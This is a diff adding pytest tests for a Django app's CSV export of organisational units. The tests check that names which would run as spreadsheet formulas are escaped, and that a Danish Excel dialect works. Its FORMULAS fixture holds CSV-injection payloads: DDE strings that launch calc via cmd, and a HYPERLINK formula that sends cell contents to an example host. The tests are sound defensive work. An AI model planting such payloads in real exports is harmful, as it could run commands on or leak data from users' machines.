@@ -1,9 +1,12 @@
 """/export/units.csv — the structure on a date for the spreadsheet people."""
 
 import csv
+import datetime
 import io
 
 import pytest
+
+from history.services import Create, apply_reorganisation
 
 pytestmark = pytest.mark.django_db
 
@@ -50,3 +53,85 @@ def test_the_csv_gives_a_units_whole_existence_beside_its_placement_on_the_date(
     before_the_sources = by_slug["direktion"]
     assert (before_the_sources["eksisterer fra"], before_the_sources["eksisterer til"]) == ("", "")
     assert before_the_sources["målgruppe"] == ""
+
+
+# OWASP's characters that make a spreadsheet read a cell as a formula.
+FORMULAS = {
+    "equals": '=HYPERLINK("https://example.org/?d="&A1,"Klik")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+}
+
+
+@pytest.fixture
+def units_named_like_formulas(archivist):
+    apply_reorganisation(
+        title="Enheder med formler i navnet",
+        date=datetime.date(2012, 1, 1),
+        user=archivist,
+        reason="Test af CSV",
+        changes=[
+            Create(
+                slug=f"formel-{n}",
+                name=formula,
+                short_name=formula,
+                parent="mr-born",
+                kind="enhed",
+            )
+            for n, formula in enumerate(FORMULAS.values())
+        ]
+        + [Create(slug="formel-top", name="=1+1", parent=None, kind="forvaltning")],
+    )
+
+
+@pytest.mark.parametrize("n", range(len(FORMULAS)), ids=list(FORMULAS))
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    client, units_named_like_formulas, n
+):
+    formula = list(FORMULAS.values())[n]
+    row = {r["id"]: r for r in rows(client, "2012-01-01")}[f"formel-{n}"]
+    assert row["navn"] == row["kortnavn"] == "'" + formula
+    assert row["sti"].startswith("Socialforvaltningen / ")  # a cell is read from its start
+    assert row["sti"].endswith(" / " + formula)
+    assert row["eksisterer fra"] == "2012-01-01"  # dates are left as they are
+
+
+def test_a_path_starting_with_a_formula_is_written_as_text(client, units_named_like_formulas):
+    row = {r["id"]: r for r in rows(client, "2012-01-01")}["formel-top"]
+    assert row["sti"] == row["navn"] == "'=1+1"
+
+
+def test_ordinary_names_are_written_as_they_are(client):
+    row = {r["id"]: r for r in rows(client, "2011-03-01")}["mr-voksne"]
+    assert row["navn"] == "Mål- og Rammekontoret for Voksne"
+    assert row["kortnavn"] == "MR Voksne"
+
+
+def test_the_csv_for_danish_excel_has_the_same_rows_separated_by_semicolons(
+    client, units_named_like_formulas
+):
+    response = client.get("/export/units.csv", {"date": "2012-01-01", "dialect": "excel-da"})
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.content.startswith(b"\xef\xbb\xbf")  # the UTF-8 BOM Excel looks for
+    text = response.content.decode("utf-8-sig")
+    assert text.startswith("sti;navn;kortnavn;")
+    default = client.get("/export/units.csv", {"date": "2012-01-01"})
+    as_excel = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    as_default = list(csv.reader(io.StringIO(default.content.decode("utf-8-sig"), newline="")))
+    assert as_excel == as_default
+    assert ["'=1+1", "'=1+1", ""] in [row[:3] for row in as_excel]
+
+
+def test_the_chart_links_to_both_csv_files(client):
+    html = client.get("/", {"date": "2011-03-01"}).content.decode()
+    assert 'href="/export/units.csv?date=2011-03-01"' in html
+    assert 'href="/export/units.csv?date=2011-03-01&amp;dialect=excel-da"' in html
+
+
+def test_an_unknown_csv_dialect_is_a_400(client):
+    response = client.get("/export/units.csv", {"date": "2011-03-01", "dialect": "excel-us"})
+    assert response.status_code == 400
